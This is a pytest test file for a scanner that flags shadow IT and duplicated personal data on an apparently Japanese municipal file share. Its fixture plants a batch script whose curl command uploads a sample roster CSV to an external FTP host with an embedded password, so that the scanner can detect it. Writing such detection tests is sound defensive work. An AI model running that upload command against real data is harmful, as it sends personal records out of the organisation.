"""scan_roots end to end: shadow IT on the share, copies, and the same output for any worker count."""
import json

import pytest

from scanners.scan import scan_roots

GIVEN = ["太郎", "花子", "一郎", "美咲", "健太", "陽子", "翔太", "由美", "大輔", "明美", "直樹", "恵子"]
ROSTER = "氏名,生年月日,電話番号\n" + "".join(
    f"見本 {g},1980/4/{n + 1},090-1234-{5600 + n:04d}\n" for n, g in enumerate(GIVEN))
PLANTED_PASSWORD = "Hx7-secret-Q2"


@pytest.fixture
def share(tmp_path):
    root = tmp_path / "share"
    files = {
        "市民課/名簿.csv": ROSTER.encode("cp932"),
        "市民課/バックアップ/名簿のコピー.csv": ROSTER.encode("cp932"),
        "個人/Dropbox/.dropbox": b"{}",
        "個人/Dropbox/持ち帰り/名簿.csv": ROSTER.encode("utf-8"),
        "個人/Dropbox/持ち帰り/説明.docx": b"PK\x03\x04",
        "ツール/TeamViewer_Setup.exe": b"MZ" + b"\0" * 200,
        "ツール/送信.bat": (f"ftp -s:cmd.txt\r\necho user upl {PLANTED_PASSWORD}> cmd.txt\r\n"
                          f"curl -T 名簿.csv ftp://files.example.com/ -u upl:{PLANTED_PASSWORD}\r\n").encode("cp932"),
        "ツール/共有.url": b"[InternetShortcut]\r\nURL=https://www.dropbox.com/s/abc123/meibo.xlsx?dl=0\r\n",
        "ツール/movie.torrent": b"d8:announce0:e",
        "ツール/readme.pdf": b"%PDF-1.4",
    }
    for rel, data in files.items():
        path = root / rel
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_bytes(data)
    return root


def risk_codes(record):
    return sorted({r["code"] for r in record["risks"]})


def test_shadow_it_and_copies(share):
    records = {r["path"]: r for r in scan_roots([str(share)], workers=2)}
    assert "ツール/readme.pdf" not in records                  # nothing to say about it
    assert risk_codes(records["ツール/TeamViewer_Setup.exe"]) == ["remote-access-tool"]
    assert records["ツール/TeamViewer_Setup.exe"]["kind"] == "executable"
    script = records["ツール/送信.bat"]
    assert script["kind"] == "script"
    assert risk_codes(script) == ["credentials-in-file", "external-upload-script"]
    assert risk_codes(records["ツール/共有.url"]) == ["cloud-storage-link"]
    assert records["ツール/movie.torrent"]["kind"] == "other"
    assert risk_codes(records["ツール/movie.torrent"]) == ["p2p-file-sharing"]
    synced = records["個人/Dropbox/持ち帰り/名簿.csv"]
    assert "cloud-sync-folder" in risk_codes(synced) and synced["personal"]["present"]
    docx = records["個人/Dropbox/持ち帰り/説明.docx"]
    assert (docx["kind"], docx["status"], risk_codes(docx)) == ("other", "skipped", ["cloud-sync-folder"])
    # the later byte-identical copy of a personal file is marked, the first is not
    assert risk_codes(records["市民課/名簿.csv"]) == []
    copy = records["市民課/バックアップ/名簿のコピー.csv"]
    assert risk_codes(copy) == ["duplicate-personal-data"]
    assert "市民課/名簿.csv" in copy["risks"][0]["detail"]
    text = json.dumps(list(records.values()), ensure_ascii=False)
    assert PLANTED_PASSWORD not in text and "abc123" not in text and "見本" not in text


def test_same_records_in_walk_order_for_any_worker_count(share):
    def run(workers):
        return [{k: v for k, v in r.items()} for r in scan_roots([str(share)], workers=workers)]

    inline, one, two = run(0), run(1), run(2)
    assert [r["path"] for r in two] == [r["path"] for r in inline]
    assert inline == one == two
